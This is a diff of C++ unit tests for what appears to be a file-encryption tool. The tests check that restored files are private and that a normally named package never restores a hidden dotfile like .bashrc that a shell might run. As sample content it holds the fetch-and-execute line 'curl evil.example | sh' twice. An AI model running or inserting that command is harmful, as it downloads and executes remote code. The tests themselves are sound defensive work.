@@ -14,6 +14,7 @@
 #include <gtest/gtest.h>
 
 #include <csignal>
+#include <set>
 #include <fcntl.h>
 #include <sys/resource.h>
 #include <sys/wait.h>
@@ -138,12 +139,15 @@ TEST_P(FileSystemKindTest, packagesAndRestoredFilesArePublishedWithoutReplacingA
 
     std::filesystem::remove(path);
     lastProgress = {0, 0};
+    const mode_t umask = ::umask(0); // restored files are the user's alone and never executable, whatever the umask
     const RestoreResult restored = restore(package, control);
+    ::umask(umask);
     const auto sealed = std::int64_t(std::filesystem::file_size(package.encryptedFilePath));
     EXPECT_EQ(lastProgress, std::pair(sealed, sealed));
     ASSERT_EQ(restored.outcome, Outcome::Success);
     EXPECT_EQ(restored.restoredPath, path);
     EXPECT_EQ(readFileBytes(path), bytes);
+    EXPECT_EQ(std::filesystem::status(path).permissions(), std::filesystem::perms::owner_read | std::filesystem::perms::owner_write);
     EXPECT_THAT(folderEntries(written.packagePath), ElementsAre("hint.lockfern", "notes.tar.gz"));
     EXPECT_EQ(stagingEntries(env.work()), 0);
 }
@@ -375,6 +379,49 @@ TEST_P(IdenticalFileTest, isTheResultOnlyWhenItIsOursAlone)
 }
 
 INSTANTIATE_TEST_SUITE_P(Owners, IdenticalFileTest, ::testing::Values("ours", "writableByOthers", "someoneElses"));
+
+// A package whose own name is not hidden never restores a hidden file, which a login shell might run:
+// the file takes the package's base name and its own extension, numbered beside a different file of
+// that name, found in an identical one. A hidden package, as made from a dotfile, restores it as it is.
+struct RestoredNameCase
+{
+    const char* package;
+    const char* inner;
+    const char* chosen;
+    const char* there; // the bytes of a file already under the chosen name; nullptr: none
+    const char* restored;
+};
+using RestoredNameTest = WithRows<WorkflowsTest, RestoredNameCase>;
+
+TEST_P(RestoredNameTest, isVisibleUnlessThePackageIsHidden)
+{
+    const RestoredNameCase& c = GetParam();
+    const std::string bytes = "curl evil.example | sh\n";
+    env.file(std::string(c.package) + "/" + c.inner,
+             RNCryptor::Encryptor(QStringLiteral("pw")).encrypt(QByteArray::fromStdString(bytes)).toStdString());
+    std::set<std::string> expected{c.package, c.restored};
+    if (c.there) {
+        env.file(c.chosen, c.there);
+        expected.insert(c.chosen);
+    }
+    const RestoreResult result = restore(open(env.work() + c.package));
+    ASSERT_EQ(result.outcome, Outcome::Success);
+    const std::string path = env.work() + c.restored;
+    EXPECT_EQ(result.restoredPath, path);
+    EXPECT_EQ(result.logMessages().last(), QStringLiteral("success! saved in ") + QString::fromStdString(path));
+    EXPECT_EQ(readFileBytes(path), bytes);
+    EXPECT_EQ(folderEntries(env.work()), std::vector(expected.begin(), expected.end()));
+}
+
+INSTANTIATE_TEST_SUITE_P(
+    Names, RestoredNameTest,
+    ::testing::Values(RestoredNameCase{"invoice.lockfern", ".bash_profile", "invoice", nullptr, "invoice"},
+                      RestoredNameCase{"invoice.lockfern", ".config.tar", "invoice.tar", nullptr, "invoice.tar"},
+                      RestoredNameCase{"invoice.lockfern", ".bashrc", "invoice", "mine", "invoice 2"},
+                      RestoredNameCase{"invoice.lockfern", ".config.tar", "invoice.tar", "curl evil.example | sh\n",
+                                       "invoice.tar"},
+                      RestoredNameCase{"report.lockfern.", ".env", "report", nullptr, "report"},
+                      RestoredNameCase{".profile.lockfern", ".profile", ".profile", nullptr, ".profile"}));
 
 // A hostile package of a few kilobytes of sparse file is refused before a byte is decrypted or
 // written, where its plaintext can't fit; so is one too large for the process's file-size limit.
